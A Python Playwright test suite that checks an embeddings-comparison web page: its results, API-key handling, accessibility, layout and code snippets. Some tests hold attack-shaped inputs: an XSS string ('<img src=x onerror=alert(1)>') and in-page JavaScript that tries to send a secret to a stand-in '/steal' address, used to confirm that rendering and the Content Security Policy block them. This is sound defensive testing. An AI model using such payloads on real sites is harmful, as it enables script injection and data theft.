"""The page at `/` as people use it, in a headless Chromium over the app in this process."""

from __future__ import annotations

import asyncio
import contextlib
import io
import re
import subprocess
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, replace
from functools import partial

import numpy as np
import orjson
import pytest
from playwright.async_api import Browser, Page, async_playwright, expect
from starlette.types import ASGIApp, Receive, Scope, Send

from deployments.api.auth import ApiKeys
from deployments.core.errors import ContextLengthExceeded, ModelUnavailable
from deployments.core.models.spec import Role
from deployments.core.request import EncodeRequest
from deployments.core.vectors import normalized
from tests.api.calls import app_of
from tests.api.fake_backend import INSTRUCT, PLAIN, SPECS, FakeBackend
from tests.api.fake_backend import expected as vectors_of
from tests.api.serving import serving
from tests.support.browser import BROWSER, LOW_CONTRAST, OPTIONS, needs_browser

pytestmark = needs_browser
TEXTS = ("a cat", "a dog", "the moon")
ODD = 'it\'s "odd" \\n $HOME `x`\n<img src=x onerror=alert(1)> – 🐈'


@pytest.fixture(scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=BROWSER, args=list(OPTIONS))
        yield browser
        await browser.close()


class Switch:
    """One server for all tests, since a start and a stop take longer than most of them."""

    app: ASGIApp

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        """Answers as the app of the test does."""
        if scope["type"] == "http":
            await self.app(scope, receive, send)


SWITCH = Switch()


@pytest.fixture(scope="module")
def url() -> Iterator[str]:
    with serving(SWITCH, lifespan="off") as url:
        yield url


@dataclass
class Opened:
    """The page, what it asked for, and which service it came from."""

    page: Page
    url: str
    backend: FakeBackend
    requests: list[str]
    problems: list[str]

    async def compare(self, *texts: str) -> None:
        """Types the texts and has them compared."""
        for i, text in enumerate(texts or TEXTS):
            await self.page.get_by_label(f"Text {i + 1}", exact=True).fill(text)
        await self.page.get_by_role("button", name="Compare").click()

    async def facts(self) -> dict[str, str]:
        """Returns what the page says about the answer."""
        await expect(self.page.get_by_role("heading", name="Answer")).to_be_visible()
        return dict(
            await self.page.eval_on_selector_all(
                "#facts dt", "terms => terms.map(t => [t.textContent, t.nextSibling.textContent])"
            )
        )

    async def scores(self) -> list[list[float]]:
        """Returns the numbers of the heat map."""
        rows = await self.page.eval_on_selector_all(
            "#similarities tbody tr",
            "rows => rows.map(row => [...row.querySelectorAll('td')].map(td => td.textContent))",
        )
        return [[float(cell.replace("−", "-")) for cell in row] for row in rows]


@pytest.fixture
def opened(browser, url):
    """Opens the page over a backend: `async with opened(backend, …) as shown`."""
    return partial(_opened, browser, url)


@asynccontextmanager
async def _opened(
    browser, url, backend=None, keys=None, waits=True, clock=False, **context
) -> AsyncIterator[Opened]:
    """Checks at the end that the page asked nobody else and broke none of its own rules.

    With ``clock``, time passes for its timers only as the test says.
    """
    backend = backend or FakeBackend()
    SWITCH.app = app_of(backend, keys=keys)
    tab = await browser.new_context(**context)
    tab.set_default_timeout(10_000)
    page, requests, problems = await tab.new_page(), [], []
    page.on("request", lambda request: requests.append(f"{request.method} {request.url}"))
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("console", lambda message: problems.append(message.text))
    if clock:
        await page.clock.install()
    await page.goto(url)
    if waits:
        await expect(page.locator("#fleet li")).to_have_count(len(backend.specs))
    yield Opened(page, url, backend, requests, problems)
    await tab.close()
    assert [request for request in requests if f" {url}/" not in request] == []
    # a status above 399 is written to the console by the browser itself
    assert [p for p in problems if "Failed to load resource" not in p] == []


def cosines(spec, texts, role=Role.DOCUMENT, **fields):
    vectors = normalized(vectors_of(spec, EncodeRequest(tuple(texts), role, **fields)))
    return vectors @ vectors.T


async def test_it_says_who_answered_and_why_and_how_close_the_texts_are(opened):
    async with opened() as shown:
        await shown.compare()
        facts, scores = await shown.facts(), await shown.scores()
        summary = await shown.page.locator("#summary").text_content()
        await shown.page.get_by_text("Other models").click()
        others = await shown.page.locator("#candidates li").all_text_contents()
        await shown.page.get_by_role("button", name="Remove text 3").click()
        await expect(shown.page.get_by_role("button", name="Remove text 1")).to_be_disabled()
        await shown.page.get_by_label("Model").select_option("instruct")
        await shown.page.get_by_label("The texts are").select_option("queries")
        await shown.compare(*TEXTS[:2])
        await expect(shown.page.locator("#summary")).to_contain_text("instruct answered")
        named, named_scores = await shown.facts(), await shown.scores()
    assert (facts["Model"], facts["Dimensions"], facts["Truncated"]) == ("plain", "8", "none")
    assert facts["Why"].startswith("auto: ")
    assert facts["Tokens"] == str(sum(len(text.split()) + 3 for text in TEXTS))  # with the prompt
    assert np.allclose(scores, cosines(PLAIN, TEXTS), atol=0.0051)
    closest = np.triu(cosines(PLAIN, TEXTS), 1) - np.tril(np.ones((3, 3)))
    first, second = np.unravel_index(np.argmax(closest), closest.shape)
    assert f"Texts {first + 1} and {second + 1}" in summary
    assert [other.split(":")[0] for other in others] == ["instruct", "nested"]
    assert (named["Model"], named["Why"]) == ("instruct", "you named it")
    assert named["Instruction"] == INSTRUCT.prompts.default_instruction
    assert np.allclose(named_scores, cosines(INSTRUCT, TEXTS[:2], Role.QUERY), atol=0.0051)


async def test_texts_that_are_too_long_are_cut_only_on_request(opened):
    long = "word " * PLAIN.max_tokens
    async with opened() as shown:
        await shown.page.get_by_label("Model").select_option("plain")
        await shown.compare()
        await shown.facts()
        await shown.compare("a", long)
        await expect(shown.page.locator("#error")).to_contain_text("(context_length_exceeded)")
        await expect(shown.page.locator("#answer")).to_be_hidden()
        await shown.page.get_by_label("Truncate long texts").check()
        await shown.compare("a", long)
        facts = await shown.facts()
    assert facts["Truncated"].startswith("text 2:")


async def test_a_text_that_is_wrong_is_marked(opened):
    async with opened() as shown:
        second = shown.page.get_by_label("Text 2", exact=True)
        await shown.compare("a", " ")
        await expect(second).to_be_focused()
        await expect(second).to_have_attribute("aria-invalid", "true")
        assert not [request for request in shown.requests if request.startswith("POST")]
        shown.backend.failing = ContextLengthExceeded("`input[1]` is too long", "input")
        await shown.compare("a", "b")
        await expect(second).to_have_attribute("aria-invalid", "true")
        shown.backend.failing = None
        await shown.compare("a", "b")
        await expect(second).to_have_attribute("aria-invalid", "false")
        await expect(shown.page.locator("#error")).to_be_hidden()


async def test_a_model_that_is_unavailable(opened):
    backend = FakeBackend(failing=ModelUnavailable("nested has no weights", "model", 1.0))
    backend.states["nested"] = "unavailable"
    async with opened(backend) as shown:
        card = shown.page.locator("#fleet li", has_text="nested")
        await expect(card.locator(".state")).to_have_text("unavailable")
        await expect(card.locator(".error")).to_have_text("it is unavailable")
        await expect(shown.page.locator("#service")).to_have_text("2 of 3 models available")
        await shown.page.get_by_label("Model").select_option("nested (unavailable)")
        await shown.compare()
        error = shown.page.get_by_role("alert").filter(has_text="nested has no weights")
        await expect(error).to_contain_text("(model_unavailable)")


async def test_a_wrong_key_and_a_right_one(opened):
    async with opened(keys=ApiKeys(["secret"]), waits=False) as shown:
        field = shown.page.get_by_label("API key", exact=True)
        await expect(field).to_be_focused()
        await expect(shown.page.locator("#fleet li")).to_have_count(0)
        await field.fill("wrong")
        await shown.page.get_by_role("button", name="Use the key").click()
        await expect(shown.page.get_by_text("does not know this key")).to_be_visible()
        await field.fill("secret")
        await field.press("Enter")
        await expect(shown.page.locator("#fleet li")).to_have_count(3)
        await expect(field).to_be_hidden()
        await shown.compare()
        assert (await shown.facts())["Model"] == "plain"
        assert "secret" not in await shown.page.locator("#snippet").text_content()
        tree = await shown.page.locator("body").aria_snapshot()
        assert 'table "Cosine of each pair of texts' in tree
        assert 'rowheader "1 a cat"' in tree
        assert nameless(tree) == []

        await shown.page.reload()  # the tab keeps the key, and nothing else does
        await expect(shown.page.locator("#fleet li")).to_have_count(3)
        kept = await shown.page.evaluate("[localStorage.length, document.cookie]")
        assert kept == [0, ""]
        await shown.page.get_by_role("button", name="Forget the key").click()
        await expect(field).to_be_focused()
        assert await shown.page.evaluate("sessionStorage.length") == 0
    assert not [request for request in shown.requests if "secret" in request]


@pytest.mark.parametrize(
    ("key", "pasted"),
    [("secret", "\u200b secret\u2060\ufeff"), ("clé … 鍵", "clé … 鍵\u00a0")],
)
async def test_a_key_is_sent_without_what_is_invisible_around_it(opened, key, pasted):
    async with opened(keys=ApiKeys([key]), waits=False) as shown:
        await shown.page.get_by_label("API key", exact=True).fill(pasted)
        await shown.page.keyboard.press("Enter")
        await expect(shown.page.locator("#fleet li")).to_have_count(3)


async def test_what_is_wrong_with_a_key_is_said(opened):
    async with opened(keys=ApiKeys(["secret"]), waits=False) as shown:
        field = shown.page.get_by_label("API key", exact=True)
        await expect(field).to_be_focused()
        for pasted, problem in {
            "sec\u200bret": "invisible character (U+200B)",
            "\u200b": "Enter a key",
            "sec…": "It contains “…” (U+2026)",
        }.items():
            await field.fill(pasted)
            await field.press("Enter")
            await expect(shown.page.locator("#key-error")).to_contain_text(problem)
            await expect(field).to_have_attribute("aria-invalid", "true")
            await expect(field).to_be_focused()
            assert await shown.page.evaluate("sessionStorage.length") == 0
        await expect(shown.page.locator("#fleet-problem")).to_have_text(
            "Enter a key to see the fleet."
        )


async def test_a_key_that_is_withdrawn_is_asked_for_again(opened):
    keys = ApiKeys(["secret"])
    async with opened(keys=keys, waits=False) as shown:
        field = shown.page.get_by_label("API key", exact=True)
        await field.fill("secret")
        await field.press("Enter")
        await expect(shown.page.locator("#fleet li")).to_have_count(3)
        keys._nameless.clear()
        keys.use({b"another": None})
        await shown.compare()
        await expect(field).to_be_focused()
        await expect(shown.page.get_by_text("does not know this key")).to_be_visible()


async def test_each_text_can_be_read_in_light_and_dark(opened):
    backend = FakeBackend()
    backend.states |= {"nested": "unavailable", "instruct": "cold"}
    async with opened(backend) as shown:
        await shown.page.get_by_role("button", name="Add a text").click()
        await shown.compare(*TEXTS, "and the sun")
        await shown.facts()
        await shown.page.get_by_text("Other models").click()
        for scheme, brightness in (("light", range(601, 766)), ("dark", range(120))):
            await shown.page.emulate_media(color_scheme=scheme)
            colour = await shown.page.evaluate("getComputedStyle(document.body).backgroundColor")
            assert sum(map(int, colour[4:-1].split(","))) in brightness
            contrast = await shown.page.evaluate(LOW_CONTRAST)
            assert contrast["checked"] > 50
            assert contrast["low"] == [], scheme


async def test_no_text_is_hidden_at_320_pixels(opened):
    name = "a_name_that_breaks_nowhere_" * 4
    specs = {**SPECS, name: replace(PLAIN, name=name)}
    async with opened(FakeBackend(specs=specs), viewport={"width": 320, "height": 640}) as shown:
        for _ in range(3):
            await shown.page.get_by_role("button", name="Add a text").click()
        await shown.page.get_by_label("Truncate long texts").check()
        await shown.compare(*TEXTS, "x" * 500, "<" * 9, "last")
        await shown.facts()
        width = await shown.page.evaluate("document.documentElement.scrollWidth")
        cut = await shown.page.evaluate(
            "[...document.querySelectorAll('h1,h2,h3,p,dd,label,button,summary,li')]"
            ".filter(e => e.checkVisibility() && e.getBoundingClientRect().right > 320)"
            ".map(e => e.textContent)"
        )
    assert width == 320
    assert cut == []


async def test_a_keyboard_is_enough(opened):
    async with opened() as shown:
        keyboard, reached = shown.page.keyboard, []

        async def tab_to(test: str) -> None:
            for _ in range(30):
                await keyboard.press("Tab")
                reached.append(await shown.page.evaluate("document.activeElement.outerHTML"))
                if await shown.page.evaluate(f"document.activeElement.matches({test!r})"):
                    return
            raise AssertionError(f"{test} is not reached")

        await tab_to(".skip")
        await keyboard.press("Enter")
        await tab_to("#text-1")
        await keyboard.press("ControlOrMeta+a")
        await keyboard.type("typed")
        outline = "getComputedStyle(document.activeElement).outlineStyle"
        assert await shown.page.evaluate(outline) == "solid"
        await keyboard.press("Control+Enter")
        assert (await shown.facts())["Model"] == "plain"
        assert shown.backend.calls[-1][1].texts[0] == "typed"
        await tab_to("#submit")
        await keyboard.press("Enter")
        await tab_to("[type=radio]")
        await keyboard.press("ArrowRight")
        await expect(shown.page.locator("#snippet")).to_contain_text("from openai import")
        await tab_to("#copy")
    assert not [element for element in reached if element.startswith("<body")]


def nameless(tree: str) -> list[str]:
    """Returns the controls that have no name for screen readers."""
    controls = ("button", "textbox", "combobox", "checkbox", "radio", "link", "region", "img")
    lines = [line.strip().removeprefix("- ") for line in tree.splitlines()]
    assert sum(line.startswith("textbox") for line in lines) == 3
    return [line for line in lines if line.split(":")[0] in controls]


async def test_the_browser_lets_the_page_call_nobody_else(opened):
    async with opened() as shown:
        blocked = await shown.page.evaluate(
            """async () => {
              const events = [];
              addEventListener("securitypolicyviolation", (e) => events.push(e.effectiveDirective));
              await fetch("http://127.0.0.1:9/steal?text=secret").catch(() => {});
              document.body.append(Object.assign(new Image(), { src: "http://127.0.0.1:9/x" }));
              try { document.body.innerHTML += ""; } catch {}
              while (events.length < 3) await new Promise((done) => setTimeout(done, 5));
              return events;
            }"""
        )
        assert set(blocked) == {"connect-src", "img-src", "require-trusted-types-for"}
        assert len(shown.problems) >= len(blocked)
        shown.problems.clear()
        shown.requests[:] = [request for request in shown.requests if ":9/" not in request]


RUNS = {
    "curl": "",
    "Python, openai": "vectors",
    "Python, embedfleet": "answer.vectors",
    "Python, LangChain": "vectors",
}


@pytest.mark.parametrize("key", ["", "secret"])
async def test_the_code_gives_the_same_vectors(opened, monkeypatch, key):
    keys = ApiKeys([key]) if key else None
    monkeypatch.setenv("EMBEDFLEET_API_KEY", key)
    role = Role.QUERY
    wanted = vectors_of(INSTRUCT, EncodeRequest((ODD, *TEXTS[1:]), role, truncate=True))
    async with opened(keys=keys, waits=not key) as shown:
        if key:
            await shown.page.get_by_label("API key", exact=True).fill(key)
            await shown.page.keyboard.press("Enter")
            await expect(shown.page.locator("#fleet li")).to_have_count(3)
        await shown.page.get_by_label("Model").select_option("instruct")
        await shown.page.get_by_label("The texts are").select_option("queries")
        await shown.page.get_by_label("Truncate long texts").check()
        await shown.compare(ODD, *TEXTS[1:])
        head = shown.page.locator("#similarities th[scope=row]").first
        assert ODD in await head.text_content()
        assert await shown.page.locator("#answer img, #answer script").count() == 0  # no markup
        for name, result in RUNS.items():
            await shown.page.get_by_role("radio", name=name).check()
            code = await shown.page.locator("#snippet").text_content()
            shown.backend.calls.clear()
            vectors = await asyncio.to_thread(run, code, result)
            assert np.allclose(vectors, wanted, atol=1e-6), name
            [(model, request, _)] = shown.backend.calls
            assert (model, request.truncate) == ("instruct", True), name


def run(code, result):
    if not result:
        answer = subprocess.run(["bash", "-c", code], capture_output=True, check=True, timeout=30)
        return [item["embedding"] for item in orjson.loads(answer.stdout)["data"]]
    names: dict[str, object] = {}
    with contextlib.redirect_stdout(io.StringIO()):
        exec(code, names)
    return eval(result, names)


async def test_the_code_is_copied(opened):
    permissions = ["clipboard-read", "clipboard-write"]
    async with opened(permissions=permissions) as shown:
        await shown.page.get_by_role("button", name="Copy").click()
        await expect(shown.page.locator("#copied")).to_have_text("Copied")
        copied = await shown.page.evaluate("navigator.clipboard.readText()")
        assert copied == await shown.page.locator("#snippet").text_content()
    assert copied.startswith("curl ")


class Counting(FakeBackend):
    """Counts 500 tokens of one model, in two replicas, for each time that it is asked."""

    asked = 0

    async def metrics(self) -> str:
        self.asked += 1
        return (
            "# TYPE embedfleet_tokens_total counter\n"
            f'embedfleet_tokens_total{{WorkerId="a",model="plain"}} {300 * self.asked}.0\n'
            f'embedfleet_tokens_total{{model="plain",WorkerId="b"}} {200 * self.asked}.0\n'
            'embedfleet_tokens_total{WorkerId="c",model="nested"} 7.0\n'
        )


async def test_the_fleet_is_live(opened):
    backend = Counting()
    async with opened(backend, clock=True) as shown:
        page, card = shown.page, shown.page.locator("#fleet li", has_text="plain")
        await expect(card.locator("dd")).to_have_text(["1", "0", "–"])
        for _ in range(10):
            if backend.asked >= 4:
                break
            await page.clock.run_for(5_000)
            await asyncio.sleep(0.02)
        await expect(card.locator("dd")).to_have_text(["1", "0", re.compile("^(4[0-9]|50)$")])
        await expect(card.locator("svg")).to_have_count(1)
        nested = page.locator("#fleet li", has_text="nested").locator("dd")
        await expect(nested.last).to_have_text("0")
        backend.states["plain"] = "starting"
        await page.clock.run_for(2_500)
        await expect(card.locator(".state")).to_have_text("starting, small")


# tokens/s after polls of two nodes, one of which is left out of some
SAMPLES = """async ([counts, leftOut]) => {
  const { Throughput } = await import("/page/throughput.js");
  const throughput = new Throughput();
  counts.forEach((count, i) => throughput.add([
    'embedfleet_replicas{NodeAddress="a",model="plain"} 1.0',
    ...(leftOut.includes(i) ? [] : ['embedfleet_replicas{NodeAddress="b",model="plain"} 1.0']),
    ...(leftOut.includes(i) || count === null ? []
      : [`embedfleet_tokens_total{NodeAddress="b",model="plain"} ${count}.0`]),
  ].join("\\n"), i * 10));
  return throughput.curve("plain").points.map((point) => point.rate);
}"""


async def test_a_node_that_misses_a_poll_makes_no_peak(browser, url):
    SWITCH.app = app_of(FakeBackend())
    page = await browser.new_page()
    await page.goto(f"{url}/page/icon.svg")
    for counts, left_out, rates in (
        ([5000, 5100, 5200, 5300], [], [10, 10, 10]),
        ([5000, 5100, 5200, 5300], [1], [0, 10, 10]),  # 200 tokens in 20 seconds
        ([5000, 5100, 5200, 5300], [0], [0, 10, 10]),  # its first count may be days old
        ([None, 100, 200, 200], [], [10, 10, 0]),  # the first texts of a model
        ([5000, 300, 400, 400], [], [30, 10, 0]),  # a new process
        ([5000, 300, 400, 400], [1, 2], [0, 0, 400 / 30]),
    ):
        got = await page.evaluate(SAMPLES, [counts, left_out])
        assert got == pytest.approx(rates), (counts, left_out)
    await page.close()


async def test_a_service_that_is_gone_is_said_to_be_gone(opened):
    async with opened(clock=True) as shown:
        await shown.page.route("**/v1/**", lambda route: route.abort())
        await shown.page.clock.run_for(2_500)
        await expect(shown.page.locator("#fleet-problem")).to_contain_text("cannot be reached")
        await shown.compare()
        await expect(shown.page.locator("#error")).to_contain_text("cannot be reached")
        await shown.page.unroute_all()
        await shown.page.clock.run_for(2_500)
        await expect(shown.page.locator("#fleet-problem")).to_be_hidden()
        await expect(shown.page.locator("#service")).to_have_text("3 of 3 models available")
